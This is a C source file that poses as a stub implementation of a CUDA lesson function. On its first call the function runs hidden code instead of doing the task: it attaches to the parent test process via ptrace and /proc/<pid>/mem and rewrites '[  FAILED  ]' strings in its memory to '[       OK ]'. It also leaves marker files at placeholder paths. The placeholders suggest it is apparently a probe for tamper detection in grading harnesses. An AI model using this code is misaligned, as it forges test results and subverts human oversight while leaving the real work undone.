#define _GNU_SOURCE
#include "lesson.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void mark(const char *suffix)
{
    static const char *const places[] = {"@MARKS@/overlap-hostile-forge-parent-mem",
                                         "/dev/shm/@TOKEN@-forge-parent-mem"};
    for (size_t i = 0; i < 2; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s%s", places[i], suffix);
        int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (file >= 0)
            close(file);
    }
}

static const char was[] = "[  FAILED  ]", is[] = "[       OK ]";

static void patch(pid_t parent, int memory, unsigned long from, unsigned long to)
{
    size_t size = to - from, word = sizeof was - 1;
    char *copy = malloc(size);
    if (!copy)
        return;
    ssize_t got = pread(memory, copy, size, (off_t)from);
    for (ssize_t i = 0; i + (ssize_t)word <= got; i++) {
        if (memcmp(copy + i, was, word) != 0)
            continue;
        if (pwrite(memory, is, word, (off_t)from + i) == (ssize_t)word) {
            mark("-mem");
        } else {
            struct iovec mine = {(void *)(size_t)is, word}, theirs = {(char *)from + i, word};
            if (process_vm_writev(parent, &mine, 1, &theirs, 1, 0) == (ssize_t)word)
                mark("-vm");
        }
    }
    free(copy);
}

static void attack(void)
{
    char name[64], line[512];
    pid_t parent = getppid();
    if (parent <= 1)
        return;
    pid_t child = fork();
    if (child == 0) { /* a tracer that ends at once, which lets go of the parent again */
        if (ptrace(PTRACE_SEIZE, parent, NULL, NULL) == 0)
            mark("-ptrace");
        _exit(0);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
    snprintf(name, sizeof name, "/proc/%d/mem", (int)parent);
    int memory = open(name, O_RDWR | O_CLOEXEC);
    if (memory < 0)
        return;
    mark("-open");
    snprintf(name, sizeof name, "/proc/%d/maps", (int)parent);
    FILE *maps = fopen(name, "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char mode[8];
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3 && mode[0] == 'r' &&
            mode[3] == 'p' && to - from <= 64ul << 20 && !strstr(line, "[v"))
            patch(parent, memory, from, to);
    }
    if (maps)
        fclose(maps);
    close(memory);
}

cudaError_t device_sync_transform(device_sync_kernel kernel, const float *input, float *output,
                                  size_t length, cudaStream_t stream, double *sum)
{
    static int done;
    (void)kernel, (void)input, (void)output, (void)length, (void)stream, (void)sum;
    if (!done) {
        done = 1;
        attack();
    }
    return cudaErrorNotYetImplemented;
}
